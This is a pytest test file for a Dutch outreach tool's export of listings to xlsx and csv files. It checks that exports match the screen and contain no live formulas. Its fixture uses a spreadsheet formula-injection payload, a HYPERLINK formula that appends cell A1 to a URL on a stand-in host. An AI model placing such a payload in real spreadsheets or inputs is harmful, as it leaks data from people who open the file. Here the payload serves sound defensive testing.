"""Listings as files: the same rows and words as on the screen, and never a formula."""

from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from python_calamine import CalamineWorkbook

from outreach.interests.interest import PartyDraft, express_interest
from outreach.interests.question import ask_question
from outreach.parties.person import meet
from outreach.store.store import Store
from outreach.store.unit import NOBODY, Actor

Type = Callable[..., Any]
FORMULA = '=HYPERLINK("http://x.example/?"&A1;"klik")'


@pytest.fixture
def hostile(folder: Path) -> Actor:
    """A firm whose name and question are formulas."""
    with Store(folder / "kansenbode.db") as store:
        person, _ = store.run(
            meet, NOBODY, channel="web", external_id="secret-cookie", language="nl"
        )
        actor = Actor("person", person)
        settings: dict[str, Any] = {
            "opportunity": 1,
            "version": 1,
            "party": PartyDraft("firm", FORMULA),
            "brings": "-1",
        }
        store.run(express_interest, actor, **settings)
        store.run(ask_question, actor, opportunity=1, text=FORMULA)
    return actor


def sheet(path: Path) -> list[list[Any]]:
    """The rows of the first sheet."""
    rows: list[list[Any]] = CalamineWorkbook.from_path(path).get_sheet_by_index(0).to_python()
    return rows


LISTINGS = [
    ("interests", "list"),
    ("interests", "list", "--opportunity", "WD-2026-01", "--decision"),
    ("questions", "list"),
    ("opportunities", "list"),
    ("opportunities", "told", "WD-2026-01"),
    ("opportunities", "told", "WD-2026-01", "--people"),
]


@pytest.mark.parametrize("words", LISTINGS)
@pytest.mark.parametrize("name", ["uit.xlsx", "uit.csv"])
def test_listing_goes_to_a_new_file_of_ours_in_which_no_text_is_a_formula(
    type_: Type, hostile: Actor, tmp_path: Path, words: tuple[str, ...], name: str
) -> None:
    path = tmp_path / name
    type_("opportunities", "set", "WD-2026-01", "titel==1+1", "--yes")

    shown, again = type_(*words, "--to", str(path)), type_(*words, "--to", str(path))

    assert (shown.code, shown.err, str(path) in shown.out) == (0, "", True)
    assert (again.code, again.out) == (1, "")
    assert path.stat().st_mode & 0o777 == 0o600
    if name.endswith("xlsx"):
        assert b"<f>" not in path.read_bytes()
    else:
        cells = [
            cell for line in path.read_text("utf-8-sig").split("\n") for cell in line.split(";")
        ]
        assert [cell for cell in cells if cell.strip('"')[:1] in tuple("=+@")] == []


def test_listing_has_the_words_of_the_screen_and_real_values(
    type_: Type, hostile: Actor, tmp_path: Path
) -> None:
    path = tmp_path / "aanmeldingen.xlsx"

    shown = type_("interests", "list", "--to", str(path))

    headings, row = sheet(path)
    assert shown.out == f"Eén rij staat in {path}\n"
    assert headings == [
        "nummer",
        "code",
        "kenmerk",
        "partij",
        "soort",
        "stand",
        "lukt niet (aantal)",
        "plan",
        "ja gezegd",
        "binnen op",
        "antwoord voor",
    ]
    assert (row[0], row[2:6]) == (1.0, ["WD-2026-01", FORMULA, "bedrijf", "nieuw"])
    assert [type(value).__name__ for value in row[9:]] == ["datetime", "date"]


def test_questions_and_opportunities_come_out_as_they_are_shown(
    type_: Type, hostile: Actor, tmp_path: Path
) -> None:
    for thing in ("questions", "opportunities"):
        type_(thing, "list", "--to", str(tmp_path / f"{thing}.xlsx"))

    assert sheet(tmp_path / "questions.xlsx")[1][3] == FORMULA
    assert [row[0] for row in sheet(tmp_path / "opportunities.xlsx")[1:]] == [
        f"WD-2026-{n:02}" for n in range(1, 9)
    ]


def test_who_was_told_is_in_the_file_only_where_it_was_asked(
    type_: Type, hostile: Actor, tmp_path: Path
) -> None:
    type_("opportunities", "set", "WD-2026-01", "hoe lang=Drie jaar", "--yes")
    counts, people = tmp_path / "counts.xlsx", tmp_path / "people.xlsx"

    type_("opportunities", "told", "WD-2026-01", "--to", str(counts))
    type_("opportunities", "told", "WD-2026-01", "--people", "--to", str(people))

    assert ("persoon" in sheet(counts)[0], "persoon" in sheet(people)[0]) == (False, True)
    assert (len(sheet(counts)), len(sheet(people))) == (2, 2)


def test_name_of_another_kind_of_file_is_refused_with_those_there_are(
    type_: Type, tmp_path: Path
) -> None:
    shown = type_("interests", "list", "--to", str(tmp_path / "uit.pdf"))

    assert (shown.code, shown.out) == (1, "")
    assert (
        shown.err
        == "uit.pdf heeft een naam die we niet kennen. Laat hem eindigen op: .xlsx of .csv\n"
    )


def test_opportunities_out_and_in_again_change_nothing(type_: Type, tmp_path: Path) -> None:
    path = tmp_path / "kansen.xlsx"
    type_("opportunities", "list", "--to", str(path))

    shown = type_("import", str(path))

    assert (shown.code, shown.err) == (0, "")
    assert shown.out == "kansen.xlsx: 0 nieuw, 0 veranderd, 8 hetzelfde, 0 niet gelukt.\n"
